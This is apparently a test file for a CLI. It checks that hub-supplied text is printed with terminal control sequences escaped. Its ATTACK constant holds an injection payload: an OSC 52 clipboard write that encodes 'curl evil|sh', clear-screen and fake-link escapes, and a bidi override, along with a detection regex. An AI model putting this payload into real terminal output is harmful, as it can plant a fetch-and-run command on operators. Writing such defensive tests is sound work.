// Review 10 finding 5: a workload's termination message, a Kubernetes event, a helm error or a chart's NOTES
// reach the CLI through the hub. Whatever the hub serves, the operator's terminal is sent no control sequence
// but the CLI's own colours: every command that prints hub text is run here against a hub serving the review's
// payload (OSC 52 clipboard, clear screen, OSC 8 link) and C1/bidi characters in every string.
import { describe, expect, it, vi } from 'vitest';
import type { Output } from './command.js';
import { main } from './main.js';
import { FakeHub } from './testing/fake-hub.js';
import { NOW, page, pack } from './testing/page.js';
import type { ClusterPage, PackHistory, PackValues } from '../server/client-types.js';

const ATTACK =
  '\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u009b2J\u202e';
/** The CLI's own colours (render/color.ts) are the only escape sequences it may write. */
const OWN_COLOURS = /\x1b\[(?:0|1|2|31|32|33|34|90)m/g; // eslint-disable-line no-control-regex -- the point
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const ACTS_ON = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const VISIBLE = '\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J';

function capture(): Output & { text: () => string } {
  let text = '';
  return {
    write: (chunk: string) => {
      text += chunk;
    },
    isTTY: true,
    columns: 400,
    text: () => text,
  };
}

const message = `Pod team/job-x: container "c" exited with code 1: ${ATTACK}`;
const poisonedPage: ClusterPage = page(
  [pack({ name: 'job', layer: 'apps', phase: 'failed', reason: 'Error', message, profile: 'platform' })],
  { reachable: false, error: `dial tcp: ${ATTACK}`, server: `https://x${ATTACK}` },
);
const values: PackValues = {
  pack: 'app',
  profile: 'p',
  profileVersion: '1.0.0',
  type: 'helm',
  chart: `c${ATTACK}`,
  namespace: 'ns',
  values: {},
  yaml: `a: "${ATTACK}"\n`,
  masked: false,
  notes: `Visit us\n${ATTACK}\n`,
};
const history: PackHistory = {
  transitions: [
    {
      time: '2025-01-01T12:00:00Z',
      from: 'processing',
      to: 'failed',
      condition: 'Error',
      reason: 'X',
      message,
    },
  ],
};

async function run(argv: string[], respond: (path: string) => Response | undefined, hub?: FakeHub) {
  const stdout = capture();
  const stderr = capture();
  const fetch = (input: string | URL | Request, init?: RequestInit): Promise<Response> => {
    const path = new URL(input instanceof Request ? input.url : String(input)).pathname;
    const answer = respond(path);
    if (answer !== undefined) return Promise.resolve(answer);
    if (hub !== undefined) return hub.fetch(input, init);
    return Promise.resolve(Response.json({ status: 404, detail: path, code: 'NOT_FOUND' }, { status: 404 }));
  };
  const code = await main(argv, {
    stdout,
    stderr,
    env: { HOME: '/nonexistent', STRATA_TOKEN: 't' },
    cwd: '/tmp',
    now: () => NOW,
    fetch,
  });
  return { code, out: stdout.text() + stderr.text() };
}

function expectShownNotObeyed(out: string): void {
  expect(out.replace(OWN_COLOURS, '')).not.toMatch(ACTS_ON);
  expect(out).toContain(VISIBLE);
}

describe('hub text on the terminal', () => {
  it('strata status: the termination message, the cluster error and server', async () => {
    const hub = new FakeHub(poisonedPage);
    const { out } = await run(['status', 'dev'], () => undefined, hub);
    expectShownNotObeyed(out);
  });

  it('strata pack values: the values and the chart NOTES, multi-line still', async () => {
    const { code, out } = await run(['pack', 'values', 'dev', 'app'], () => Response.json(values));
    expect(code).toBe(0);
    expectShownNotObeyed(out);
    expect(out).toContain('NOTES:\nVisit us\n\\x1b]52');
  });

  it('strata pack history: the reason of each transition', async () => {
    const { code, out } = await run(['pack', 'history', 'dev', 'job'], () => Response.json(history));
    expect(code).toBe(0);
    expectShownNotObeyed(out);
  });

  it('strata cluster list: the unreachable cluster error', async () => {
    const { code, out } = await run(['cluster', 'list'], () => Response.json([poisonedPage.cluster]));
    expect(code).toBe(0);
    expectShownNotObeyed(out);
  });

  it('an error: the problem detail and its issues', async () => {
    const problem = { status: 500, code: 'X', detail: `helm: ${ATTACK}`, issues: [{ message: ATTACK }] };
    const { code, out } = await run(['cluster', 'list'], () => Response.json(problem, { status: 500 }));
    expect(code).toBe(1);
    expectShownNotObeyed(out);
  });

  it('strata events: the reason and message of a stored event', async () => {
    const hub = new FakeHub(poisonedPage);
    const stdout = capture();
    const done = main(['events', 'dev'], {
      stdout,
      stderr: stdout,
      env: { HOME: '/nonexistent' },
      cwd: '/tmp',
      now: () => NOW,
      fetch: hub.fetch,
    });
    await vi.waitFor(() => {
      expect(hub.streams.length).toBe(1);
    });
    hub.emit({
      kind: 'pack.transition',
      pack: `job${ATTACK}`,
      data: { transition: { from: 'processing', to: 'failed', condition: 'Error', reason: 'X', message } },
    });
    hub.live();
    expect(await done).toBe(0);
    expectShownNotObeyed(stdout.text());
  });

  it('-o json and -o yaml: the hub object, value for value, and nothing a terminal acts on', async () => {
    for (const format of ['json', 'yaml']) {
      const { out } = await run(['pack', 'history', 'dev', 'job', '-o', format], () =>
        Response.json(history),
      );
      expect(out).not.toMatch(ACTS_ON);
      expect(out).toContain(format === 'json' ? '\\u001b]52' : '\\e]52');
    }
  });
});
